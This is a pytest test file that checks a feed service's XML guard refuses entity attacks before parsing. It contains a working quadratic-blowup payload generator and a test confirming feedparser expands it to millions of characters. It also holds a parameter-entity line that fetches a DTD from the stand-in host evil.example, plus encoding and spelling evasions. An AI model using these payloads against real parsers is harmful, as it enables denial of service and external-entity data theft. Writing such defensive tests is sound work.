"""Entity tricks are refused before any parser sees them; ordinary DOCTYPEs pass."""

from __future__ import annotations

import io
import time
from collections.abc import Callable

import feedparser
import pytest

from feedsvc.ingest import ParseError
from feedsvc.ingest.reader import parse_feed
from feedsvc.ingest.stages.guard import UnsafeXMLError, check


def quadratic_blowup(entity_size: int = 100_000, references: int = 2_000) -> str:
    """One 100 KB entity referenced 2,000 times per title: 200 million characters each, expanded.

    The entity sits on its own line, as feedparser's fallback parser needs to pick it up.
    """
    entity = "A" * entity_size
    refs = "&big;" * references
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss [\n<!ENTITY big "{entity}">\n]>\n'
        f'<rss version="2.0"><channel><title>{refs}</title>'
        f"<item><title>{refs}</title><link>https://bomb.example/1</link></item></channel></rss>"
    )


def test_the_quadratic_blowup_is_a_real_threat_to_feedparser() -> None:
    """Why the guard exists: expat refuses the amplification, then feedparser's loose parser
    expands the entity itself (scaled down here to 200 references: 20 million characters)."""
    result = feedparser.parse(io.BytesIO(quadratic_blowup(references=200).encode()))
    assert len(result.entries[0].title) == 20_000_000


def test_billion_laughs_is_refused(load: Callable[[str], bytes]) -> None:
    with pytest.raises(UnsafeXMLError, match="declares entities"):
        check(load("billion_laughs.xml"))


def test_xxe_is_refused(load: Callable[[str], bytes]) -> None:
    with pytest.raises(UnsafeXMLError, match=r"external entity \(XXE\)"):
        check(load("xxe.xml"))


def test_parameter_entities_are_refused() -> None:
    doc = (
        '<?xml version="1.0"?>'
        '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><rss/>'
    )
    with pytest.raises(UnsafeXMLError, match="parameter entity"):
        check(doc)


def test_quadratic_blowup_is_refused_quickly() -> None:
    doc = quadratic_blowup()
    assert len(doc) < 200_000  # small on the wire, 400 million characters once expanded
    started = time.monotonic()
    with pytest.raises(UnsafeXMLError):
        check(doc)
    assert time.monotonic() - started < 0.5


def test_parse_feed_refuses_them_all_with_parse_error(load: Callable[[str], bytes]) -> None:
    """Through the public entry point, before feedparser (whose loose parser would expand them)."""
    bodies = [load("billion_laughs.xml"), load("xxe.xml"), quadratic_blowup().encode()]
    for body in bodies:
        started = time.monotonic()
        with pytest.raises(ParseError, match=r"^refused: "):
            parse_feed(body, {"Content-Type": "application/rss+xml"}, "https://bomb.example/rss")
        assert time.monotonic() - started < 1


def test_encodings_do_not_hide_declarations(load: Callable[[str], bytes]) -> None:
    text = load("xxe.xml").decode("utf-8")
    for codec in ("utf-16", "utf-16-be", "utf-32", "koi8-r"):
        body = text.replace('encoding="utf-8"', f'encoding="{codec}"').encode(codec)
        with pytest.raises(UnsafeXMLError):
            check(body)
        with pytest.raises(ParseError):
            parse_feed(body, {}, "https://xxe.example/rss")


def test_cdata_before_the_root_element_does_not_hide_entities() -> None:
    """feedparser's fallback lifts ENTITY lines out of the prolog, CDATA or not."""
    entity = "A" * 100_000
    doc = (
        '<?xml version="1.0"?>\n<!DOCTYPE rss>\n<![CDATA[\n'
        f'<!ENTITY big "{entity}">\n]]>\n'
        '<rss version="2.0"><channel><title>&big;&big;&big;</title></channel></rss>'
    )
    with pytest.raises(UnsafeXMLError):
        check(doc)
    with pytest.raises(ParseError, match=r"^refused: "):
        parse_feed(doc.encode(), {}, "https://bomb.example/rss")


def test_laxer_spellings_are_refused_too() -> None:
    for doc in ('<!doctype rss [<!entity x "y">]><rss/>', '<!DOCTYPE rss [<! ENTITY x "y">]><rss/>'):
        with pytest.raises(UnsafeXMLError):
            check(doc)


def test_external_dtd_and_cdata_mentions_are_fine(load: Callable[[str], bytes]) -> None:
    check(load("rss091_netscape.xml"))  # <!DOCTYPE rss PUBLIC "-//Netscape…" "…dtd">
    check('<rss><item><description><![CDATA[Write <!ENTITY x "y"> to declare]]></description></item></rss>')
    check("<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss/>")


def test_fast_on_a_ten_megabyte_body() -> None:
    item = (
        "<item><title>Yangiliklar</title>"
        "<description><![CDATA[<p>Matn <!DOCTYPE html></p>]]></description></item>"
    )
    doc = "<rss><channel>" + item * (10_000_000 // len(item)) + "</channel></rss>"
    started = time.monotonic()
    check(doc)
    check(doc.encode("utf-8"))
    assert time.monotonic() - started < 1.0
